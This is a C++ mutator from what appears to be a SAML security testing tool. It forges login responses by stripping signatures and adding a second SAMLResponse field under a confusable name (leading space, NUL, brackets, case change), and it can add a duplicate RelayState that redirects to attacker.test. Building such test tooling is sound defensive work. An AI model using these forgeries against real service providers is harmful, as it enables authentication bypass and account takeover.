// SPDX-License-Identifier: Apache-2.0
// binding.parameter_confused — a second form field whose name a lenient framework folds into
// SAMLResponse (BIND-REDIRECT-PARAM-CONFUSION; Keycloak CVE-2026-117691, php-saml 3.10.0 #667):
// PHP drops leading spaces and a "[]" suffix, C-string APIs stop at a NUL, ASP.NET ignores case.
// It goes first and carries the message with its signatures stripped, so an SP that verifies one
// field and consumes the other would take a forged message. saml-bindings §3.5.4: one SAMLResponse.
// Param form: leading_space (default, " SAMLResponse"), nul_in_name ("SAMLResponse\0"), brackets
// ("SAMLResponse[]"), other_case ("samlresponse"), duplicate_relay_state (a second RelayState,
// https://attacker.test/, instead; a first one is added when the form has none).
#include "mutators/binding/binding.hpp"

#include <algorithm>

namespace samlt::idp::mutators {

core::Result<void> binding_parameter_confused(Target& target) {
  auto form = choice_param(target, "form",
                           {"leading_space", "nul_in_name", "brackets", "other_case", "duplicate_relay_state"},
                           "leading_space");
  if (!form) {
    return core::fail(form.error());
  }
  auto genuine = std::find_if(target.form->begin(), target.form->end(),
                              [](const core::FormField& field) { return field.first == "SAMLResponse"; });
  if (genuine == target.form->end()) {
    return core::fail(core::Reason::mutator_not_applicable, "no SAMLResponse field");
  }
  if (*form == "duplicate_relay_state") {
    if (form_field(target, "RelayState") == nullptr) {
      target.form->emplace_back("RelayState", "/");  // IdP-initiated without one: the first of two
    }
    target.form->emplace_back("RelayState", "https://attacker.test/");
    return {};
  }
  auto forged = without_signatures(genuine->second);
  if (!forged) {
    return core::fail(forged.error());
  }
  std::string name = *form == "leading_space" ? std::string(" SAMLResponse")
                     : *form == "nul_in_name" ? std::string("SAMLResponse") + '\0'
                     : *form == "brackets"    ? std::string("SAMLResponse[]")
                                              : std::string("samlresponse");
  target.form->insert(genuine, core::FormField{std::move(name), std::move(*forged)});
  return {};
}

}  // namespace samlt::idp::mutators
